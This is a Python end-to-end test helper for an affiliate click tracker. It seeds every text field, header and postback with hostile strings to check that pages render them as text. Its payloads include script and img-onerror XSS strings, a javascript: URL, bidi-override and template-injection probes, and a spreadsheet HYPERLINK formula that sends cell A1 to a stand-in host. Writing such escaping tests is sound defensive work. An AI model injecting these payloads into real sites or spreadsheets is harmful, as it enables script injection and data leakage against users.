"""What strangers send, in every field that takes a text: pages must show it as text."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import redis

from tests.e2e.running import Up, command, wait_until
from tracker.domain.click_fields import ADV_SUBS, AFF_SUBS
from tracker.processes.engines.engine import redis_url
from tracker.stream import keys

MARK = "<b data-hostile>&lt;\"'</b>"
"""A text that is an element on a page that forgets to escape it."""
TEXTS = (
    f"{MARK}<script>alert(1)</script>",
    f"{MARK}\"'><img src=x onerror=alert(1) data-hostile>",
    "javascript:alert(1)//" + MARK,
    f"{MARK}\u202egnp.exe\u2066\u200f{{{{7*7}}}}${{7*7}}",
    f'=HYPERLINK("http://x.test/?"&A1,"{MARK}")',
    MARK + "W" * 2_000,
)
NAME = f"{MARK}<script>alert(1)</script>\u202egnp"
ADVERTISER, AFFILIATE, OFFER = 7001, 7002, 7003
_GOAL = 7004


def fill(tracker: Up, place: Path) -> None:
    """Put an object of each kind, clicks, and what else strangers can leave, into a tracker.

    `place`: a directory for its files.
    """
    path = place / "hostile.json"
    path.write_text(json.dumps(_catalogue()))
    command(tracker, "import", "catalogue", str(path), may_warn=True)
    command(tracker, "postback-secrets", "add", str(ADVERTISER), f"name={NAME}", may_warn=True)
    command(tracker, "token", "create", "--scope", "clicks:read", "--name", NAME, may_warn=True)
    command(
        tracker,
        *("manual-entries", "add", f"affiliate_id={AFFILIATE}", "kind=bonus", "amount=5", "currency=EUR"),
        *(f"reason={TEXTS[0]}", f"reference={TEXTS[2][:60]}"),
        may_warn=True,
    )
    wait_until(lambda: tracker.head_location(f"{_LINK}").startswith("https://ad.test"))
    hashes = [_click(tracker, number) for number in range(3)]
    _convert(tracker, hashes[0])
    with redis.Redis.from_url(redis_url(tracker.data_dir)) as client:
        client.xadd(keys.dead(0), {"r": b"\x09{}", "id": "1-0", "reason": TEXTS[0].encode()})


_LINK = f"/offer/{OFFER}?affiliate_id={AFFILIATE}"


def _catalogue() -> dict[str, object]:
    """An object of each kind."""
    about = {"note": TEXTS[1], "tags": [TEXTS[0][:40]]}
    goal = {"name": NAME, "payout": "1", "revenue": "2", "currency": "EUR"}
    return {
        "advertisers": [
            {"id": ADVERTISER, "name": NAME, **about, "contact": TEXTS[1][:100], "postback_check": "none"}
        ],
        "affiliates": [{"id": AFFILIATE, "name": NAME, **about, "contact": TEXTS[1][:100]}],
        "offers": [
            {
                "id": OFFER,
                "name": NAME,
                **about,
                "advertiser_id": ADVERTISER,
                "category": TEXTS[0][:60],
                "urls": [{"name": NAME, "url": "https://ad.test/?c={hash}&s={aff_sub}"}],
                "goals": [{"is_base": True, **goal}, {"id": _GOAL, **goal, "name": NAME[::-1]}],
                "affiliates": [{"affiliate_id": AFFILIATE, "status": "rejected", "reason": TEXTS[0]}],
                "free_values": [{"n": 1, "value": TEXTS[0].replace(" ", "%20")}],
                "caps": [{"period": "day", "amount": 1_000}],
            }
        ],
        "goal_terms": [{"goal_id": _GOAL, "affiliate_id": AFFILIATE, "payout": "3"}],
        "affiliate_postbacks": [{"affiliate_id": AFFILIATE, "url": "https://aff.test/?c={hash}&x='\"<b>"}],
        "status_words": [{"word": TEXTS[0][:60], "status": "approved", "advertiser_id": ADVERTISER}],
        "blocks": [{"field": "source", "value": TEXTS[0], "offer_id": OFFER}],
        "bot_rules": [{"field": "user_agent", "value": TEXTS[0]}],
        "tracking_hosts": [{"host": "go.pages.test"}],
        "link_forms": [{"name": NAME, "path": "/hostile", "parameters": {"o": "offer_id"}}],
        "link_codes": [{"kind": "offer", "code": TEXTS[0][:60], "offer_id": OFFER}],
        "postback_forms": [{"name": NAME, "path": "/hostile-postback", "parameters": {"c": "click_id"}}],
    }


def _click(tracker: Up, number: int) -> str:
    """One of three clicks whose every field is hostile: an address has no room for all of them."""
    names = ["external_id", "gaid", "idfa", *AFF_SUBS, *ADV_SUBS][number::3]
    texts = {name: TEXTS[place % len(TEXTS)] for place, name in enumerate(names)} | {
        "source": TEXTS[number + 1]
    }
    header = f"Mozilla/5.0 {TEXTS[number + 1]}"
    headers = {
        "User-Agent": header.encode("ascii", "ignore").decode(),
        "Referer": TEXTS[1],
        "Accept-Language": TEXTS[1],
    }
    response, _ = tracker.get(f"{_LINK}&{urlencode(texts)}", **headers)
    assert response.status == 302, number
    return parse_qs(urlsplit(response.headers["location"]).query)["c"][0]


def _convert(tracker: Up, hash_: str) -> None:
    """A conversion whose every text is hostile."""
    texts = dict(zip(("sale_status", "external_id", *ADV_SUBS), TEXTS[:5] * 2, strict=False))
    query = urlencode({"click_id": hash_, "order_id": NAME, **texts})
    response, _ = tracker.get(f"/postback?{query}")
    assert response.status == 200
    wait_until(lambda: '"stored"' in command(tracker, "postbacks", "--json", may_warn=True))
